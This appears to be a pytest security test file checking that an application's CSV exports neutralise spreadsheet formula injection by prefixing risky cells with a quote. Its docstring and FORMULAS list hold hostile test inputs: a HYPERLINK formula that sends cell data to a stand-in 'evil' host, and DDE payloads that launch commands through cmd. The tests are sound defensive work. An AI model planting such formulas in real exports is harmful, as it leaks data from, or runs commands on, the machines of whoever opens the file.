"""Issue 13, case 7: CSV formula injection in every CSV export.

metadata.csv (History export), the Compare results CSV and the spend ledger wrote
text such as ``=HYPERLINK("http://evil/?"&A1,"click")`` verbatim: a spreadsheet
opening the file runs it. A cell that begins with ``= + - @``, a tab or a line
break is written with a leading ``'`` (OWASP's advice), so it shows and never runs.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from core.compare import experiments
from core.exports import downloads
from core.history import ops as history_ops
from core.history.store import Store
from core.history.views import JobError
from tests.security.fakes import hostile_job

FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # a full-width equals sign, read as a formula by some spreadsheets
]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_metadata_csv_neutralises_formulas(store: Store, formula):
    job_id = hostile_job(store, formula, status="failed", error=JobError("job_failed", formula))
    with zipfile.ZipFile(io.BytesIO(downloads.build_zip(store, [job_id]))) as zf:
        (row,) = _rows(zf.read("metadata.csv").decode())
    shown = "'" + formula.replace("\r", "\n")  # a bare CR would end the row unquoted: it becomes a quoted LF
    assert row["prompt"] == shown and row["error_message"] == shown
    assert row["estimate_usd"] == "0.011"  # numbers stay numbers


@pytest.mark.parametrize("formula", FORMULAS[:4])
def test_the_compare_csv_neutralises_formulas(store: Store, formula):
    exp_id = store.create_experiment(formula)
    job_id = hostile_job(store, formula, experiment_id=exp_id)
    job = store.get_job(job_id)
    layout = {"tag": experiments.LAYOUT_TAG, "v": 1, "kind": "grid",
              "rows": {"kind": "prompt", "values": [formula]}, "cols": {"kind": "provider", "values": ["openai"]},
              "base": {"model": job.model}, "base_provider": "openai",
              "cells": [{"row": 0, "col": 0, "provider": "openai", "model": job.model, "endpoint": "live",
                         "run_id": job.run_id, "job_ids": [job_id], "error": None}]}
    history_ops.save_experiment_notes(store, exp_id, layout)
    grid = experiments.load_grid(store, exp_id)
    assert grid is not None
    (row,) = _rows(experiments.grid_csv(grid))
    assert row["prompt"] == "'" + formula and row["row_label"] == "'" + formula


def test_the_ledger_csv_neutralises_formulas():
    row = {"job_id": "=1+1", "provider": "+openai", "model": "@gpt", "billed_unit": "-credits", "usd": "0.011",
           "state": "billed"}
    (out,) = _rows(downloads.ledger_csv([row]))
    assert (out["job_id"], out["provider"], out["model"], out["billed_unit"]) == ("'=1+1", "'+openai", "'@gpt",
                                                                                   "'-credits")
    assert out["usd"] == "0.011" and out["state"] == "billed"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    (row,) = _rows(downloads.csv_text([{"prompt": "a fox\r=HYPERLINK(1)", "n": 1}], ("prompt", "n")))
    assert row == {"prompt": "a fox\n=HYPERLINK(1)", "n": "1"}


def test_harmless_text_is_written_as_it_is(store: Store):
    job_id = hostile_job(store, "A fox = a small dog? 100% sure - maybe")
    with zipfile.ZipFile(io.BytesIO(downloads.build_zip(store, [job_id]))) as zf:
        (row,) = _rows(zf.read("metadata.csv").decode())
    assert row["prompt"] == "A fox = a small dog? 100% sure - maybe"
